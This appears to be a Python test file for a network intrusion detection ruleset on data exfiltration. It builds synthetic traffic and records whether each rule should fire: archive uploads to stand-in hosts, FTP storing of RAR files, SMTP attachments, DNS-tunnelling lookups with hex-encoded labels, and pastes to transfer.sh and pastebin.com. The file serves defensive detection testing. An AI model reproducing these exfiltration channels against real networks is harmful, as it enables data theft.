"""Cases of exfiltration.rules."""

from cases import OUTSIDE, answer, out, post, speech, web
from cases.tunnel_beacon import lookups, secure, words
from packets import Dice
from protocols import base64, form, request

BINARY = "application/octet-stream"
HEX = "0123456789abcdef"


def sent(body, kind=BINARY, agent="Mozilla/5.0", host="drop.example", target="/u", method="POST"):
    """A body that leaves."""
    return out(request(method, target, host, [("Content-Type", kind)], body, agent))


def uploaded(name, content, agent="Mozilla/5.0"):
    """A file that leaves in a form."""
    return sent(form("----y2", [("f", name, BINARY, content)]), "multipart/form-data; boundary=----y2", agent)


def mailed(name, text):
    """A message with an attachment."""
    body = (
        f'Subject: plan\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{text}\r\n.\r\n"
    )
    return speech(
        25,
        b"220 mx\r\n",
        b"HELO a\r\n",
        b"250 mx\r\n",
        b"MAIL FROM:<a@city.example>\r\n",
        b"250 ok\r\n",
        b"RCPT TO:<b@drop.example>\r\n",
        b"250 ok\r\n",
        b"DATA\r\n",
        b"354 go\r\n",
        body.encode(),
        b"250 ok\r\n",
        b"QUIT\r\n",
        b"221 bye\r\n",
        server=OUTSIDE,
        outside=False,
        first="server",
    )


def cases(theme):
    """All cases."""
    hit, miss = theme.hit, theme.miss
    noise = Dice("archive").bytes(900)
    zipped, rar, seven = (
        b"PK\x03\x04\x14\0\0\0\x08\0" + noise,
        b"Rar!\x1a\x07\x01\0" + noise,
        b"7z\xbc\xaf\x27\x1c\0\x04" + noise,
    )
    hit(9000701, "zip as the body", sent(zipped))
    miss(9000701, "zip to an inside server", web(post("/u", zipped, BINARY), outside=False))
    miss(9000701, "another binary body", sent(b"PK\x05\x06" + bytes(18)))
    hit(9000702, "RAR as the body", sent(rar))
    hit(9000702, "RAR in a form", uploaded("a.dat", rar))
    miss(9000702, "a text on RAR", sent("Rar! is a program.", "text/plain"))
    hit(9000703, "7-Zip as the body", sent(seven))
    miss(9000703, "a text on 7z", sent("7z is a program.", "text/plain"))
    hit(9000704, "curl sends a backup", uploaded("site.tar.gz", b"\x1f\x8b\x08\0" + noise, "curl/8.4.0"))
    miss(9000704, "curl sends a picture", uploaded("site.png", noise, "curl/8.4.0"))
    miss(9000704, "a browser sends a backup", uploaded("site.tar.gz", b"\x1f\x8b\x08\0" + noise))
    lines = [b"220 FTP\r\n", b"USER drop\r\n", b"331 Password\r\n", b"PASS x\r\n", b"230 in\r\n"]
    hit(
        9000705,
        "RAR stored",
        speech(
            21, *lines, b"STOR data.rar\r\n", b"150 ok\r\n", server=OUTSIDE, outside=False, first="server"
        ),
    )
    miss(
        9000705,
        "a page stored",
        speech(
            21, *lines, b"STOR index.html\r\n", b"150 ok\r\n", server=OUTSIDE, outside=False, first="server"
        ),
    )
    miss(
        9000705,
        "RAR fetched",
        speech(
            21, *lines, b"RETR data.rar\r\n", b"150 ok\r\n", server=OUTSIDE, outside=False, first="server"
        ),
    )
    hit(
        9000706,
        "25 names with hexadecimal data",
        lookups([f"{n:04x}.{words(n, 60, HEX)}.{words(-n, 60, HEX)}.x.drop.example" for n in range(1, 26)]),
    )
    miss(
        9000706,
        "5 such names",
        lookups([f"{n:04x}.{words(n, 60, HEX)}.{words(-n, 60, HEX)}.x.drop.example" for n in range(31, 36)]),
    )
    hit(9000707, "upload server", secure("drive"))
    miss(9000707, "a name that only begins so", secure("lookalike"))
    hit(9000708, "file put", sent(noise, host="transfer.sh", target="/a.bin", method="PUT"))
    miss(
        9000708,
        "file put on another site",
        sent(noise, host="mytransfer.sh.example", target="/a.bin", method="PUT"),
    )
    miss(9000708, "page read", out(request("GET", "/", "transfer.sh")))
    hit(
        9000709,
        "text put",
        sent(
            "api_paste_code=hosts",
            "application/x-www-form-urlencoded",
            host="pastebin.com",
            target="/api/api_post.php",
        ),
    )
    miss(9000709, "text read", out(request("GET", "/raw/x1", "pastebin.com")))
    hit(9000710, "name of the interface", lookups(["api.telegram.org"]))
    miss(9000710, "another name", lookups(["api.telegram.org.example"]))
    hit(9000711, "rclone", sent(b"notes", "text/plain", "rclone/v1.65.0", method="PUT", target="/bucket/a"))
    miss(
        9000711,
        "another client",
        sent(b"notes", "text/plain", "crclone/1.0", method="PUT", target="/bucket/a"),
    )
    dump = "-- MySQL dump 10.13  Distrib 5.7.44, for Linux (x86_64)\n--\n-- Host: localhost    Database: office\n"
    hit(9000712, "dump as the body", sent(dump, "text/plain"))
    miss(9000712, "a question on dumps", sent("How do I read a MySQL dump?", "text/plain"))
    hit(9000713, "dump handed out", answer(dump, "/backup/db.sql"))
    miss(9000713, "an article that quotes one", answer("<pre>" + dump + "</pre>", "/help/dump.html"))
    hit(9000714, "RAR mailed", mailed("plan.rar", base64(rar[:300])))
    miss(9000714, "document mailed", mailed("plan.docx", base64(zipped[:300])))
